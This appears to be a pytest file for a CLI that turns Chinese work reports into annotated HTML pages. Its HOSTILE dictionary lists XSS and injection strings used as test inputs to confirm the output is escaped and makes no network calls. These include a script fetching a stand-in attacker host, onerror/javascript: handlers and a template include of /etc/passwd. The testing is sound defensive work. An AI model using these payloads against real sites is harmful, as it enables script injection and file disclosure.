"""`zhibiao annotate`: one page that shows a report, whatever the report says."""

from __future__ import annotations

import re
from html.parser import HTMLParser
from pathlib import Path

import pytest
from typer.testing import CliRunner

from pipelines.cli import app
from pipelines.pages.annotated import annotated
from pipelines.reading.document import Document

REPORT = (
    "东沙街道2023年工作总结\n一、经济运行情况\n"
    "2023年，街道实现财政总收入6.8亿元，同比增长7.1%。\n"
    "二、明年计划\n2024年，力争财政总收入突破7亿元。\n"
)


class Reading(HTMLParser):
    """What a browser would take from a page: elements with attributes, and the text."""

    def __init__(self) -> None:
        super().__init__()
        self.tags: list[tuple[str, dict[str, str | None]]] = []
        self.text: list[str] = []
        self._inside: list[str] = []

    def handle_starttag(self, tag: str, attrs: list[tuple[str, str | None]]) -> None:
        self.tags.append((tag, dict(attrs)))
        self._inside.append(tag)

    def handle_endtag(self, tag: str) -> None:
        self._inside.reverse()
        if tag in self._inside:
            self._inside.remove(tag)
        self._inside.reverse()

    def handle_data(self, data: str) -> None:
        if "p" in self._inside:
            self.text.append(data)


def annotate(folder: Path, report: str, *options: str, name: str = "r.txt") -> str:
    (folder / name).write_bytes(report.encode("utf-8", "surrogatepass"))
    page = folder / "page.html"
    arguments = ["annotate", str(folder / name), "-o", str(page), *options]
    result = CliRunner().invoke(app, arguments)
    assert result.exit_code == 0, result.output
    return page.read_text("utf-8")


def read(page: str) -> Reading:
    reading = Reading()
    reading.feed(page)
    reading.close()
    return reading


def test_text_and_table_lead_to_each_other(tmp_path: Path):
    tags = read(annotate(tmp_path, REPORT)).tags
    places = [attrs["id"] for _, attrs in tags if "id" in attrs]
    leads = [attrs["href"] for tag, attrs in tags if tag == "a" and "href" in attrs]
    assert len(places) == len(set(places))
    assert {lead.removeprefix("#") for lead in leads if lead} <= set(places)
    marks = [attrs for _, attrs in tags if str(attrs.get("id")).startswith("m1-")]
    rows = {attrs["id"] for tag, attrs in tags if tag == "tr" and "id" in attrs}
    assert {str(mark["href"])[1:] for mark in marks} == rows
    assert any("财政总收入 · 总量 · 6.8亿 元" in str(mark["title"]) for mark in marks)


def test_plans_doubt_and_reasons_are_marked(tmp_path: Path):
    page = annotate(tmp_path, REPORT, "--lang", "en")
    tags = read(page).tags
    classes = [attrs.get("class") for tag, attrs in tags if attrs.get("id", "").startswith("m1-")]
    plain = {str(one).removesuffix(" unsure") for one in classes}
    assert {"m level planned", "m change_rate actual"} <= plain
    assert "list number" in page
    assert "700,000,000 元" in page
    heads = [one.strip() for one in re.findall(r'<th scope="col">(.*?)</th>', page)]
    assert heads[:3] == ["no.", "as written", "indicator"]
    assert "confidence" in heads
    assert '<html lang="en">' in page


@pytest.mark.parametrize("lang", ["zh", "en"])
def test_a_report_without_figures_says_so(tmp_path: Path, lang: str):
    page = annotate(tmp_path, "会议精神\n大家一致认为会议很重要。\n" * 3, "--lang", lang)
    assert ("没有发现数据" if lang == "zh" else "No figure was found") in page


HOSTILE = {
    "script": "<script>fetch('https://evil.example')</script>",
    "closing": "</p></article></style></title><script>alert(1)</script>",
    "event": "\"><img src=x onerror=alert(1)> ' onmouseover='alert(1)",
    "link": "<a href=javascript:alert(1)>收入</a>",
    "template": "{{ 7*7 }} {% include '/etc/passwd' %} ${7*7}",
    "direction": "\u202e%001长增\u2066\u202d",
    "controls": "\x00\x1b]0;x\x07\x9b",
    "halves": "甲\ud83d乙\udc00",
    "entities": "&lt;script&gt;&#x3c;b&#62;",
    "quotes": "“\"'`» onclick=alert(1)",
}
TAGS = frozenset(
    {
        "html",
        "head",
        "meta",
        "title",
        "style",
        "body",
        "header",
        "main",
        "article",
        "h1",
        "h2",
        "a",
        "p",
        "dl",
        "div",
        "dt",
        "dd",
        "ul",
        "li",
        "section",
        "table",
        "caption",
        "thead",
        "tbody",
        "tr",
        "th",
        "td",
    }
)
ATTRIBUTES = frozenset(
    {
        "lang",
        "charset",
        "http-equiv",
        "content",
        "name",
        "aria-labelledby",
        "aria-label",
        "id",
        "class",
        "href",
        "title",
        "scope",
        "tabindex",
    }
)


@pytest.mark.parametrize("text", HOSTILE.values(), ids=HOSTILE)
def test_whatever_a_report_says_is_text(text: str):
    report = f"{text}\n东沙街道2023年工作总结{text}\n实现{text}收入3亿元{text}，增长{text}5%。\n"
    page = annotated([Document(report, "text", "utf-8")], "r.txt", "zh").html
    page.encode()
    reading = read(page)
    assert {tag for tag, _ in reading.tags} <= TAGS
    assert {name for _, attrs in reading.tags for name in attrs} <= ATTRIBUTES
    assert all(str(attrs["href"]).startswith("#") for _, attrs in reading.tags if "href" in attrs)
    assert not any(char in page for char in "\x00\x1b\x07\x9b\u202e\u2066\u202d")


def test_the_name_of_the_file_is_text_too(tmp_path: Path):
    page = annotate(tmp_path, REPORT, name="<b onclick=x>&.txt")
    assert {tag for tag, _ in read(page).tags} <= TAGS
    assert "&lt;b onclick=x&gt;&amp;.txt" in page


def test_nothing_is_asked_of_the_network(tmp_path: Path):
    page = annotate(tmp_path, REPORT + "见 https://example.org/a.png 和 //cdn.example/x.js\n")
    names = {name for _, attrs in read(page).tags for name in attrs}
    assert not names & {"src", "srcset", "action", "data", "poster", "ping"}
    assert "url(" not in page
    assert "default-src 'none'" in page


@pytest.mark.parametrize(
    ("file", "output", "said"),
    [("r.txt", "r.txt", "is the report itself"), ("none.txt", "p.html", "none.txt")],
    ids=["over the report", "no report"],
)
def test_failures_name_the_file(tmp_path: Path, file: str, output: str, said: str):
    (tmp_path / "r.txt").write_text(REPORT, "utf-8")
    arguments = ["annotate", str(tmp_path / file), "-o", str(tmp_path / output)]
    result = CliRunner().invoke(app, arguments, env={"COLUMNS": "300"})
    assert result.exit_code == 1
    assert said in result.output
    assert (tmp_path / "r.txt").read_text("utf-8") == REPORT
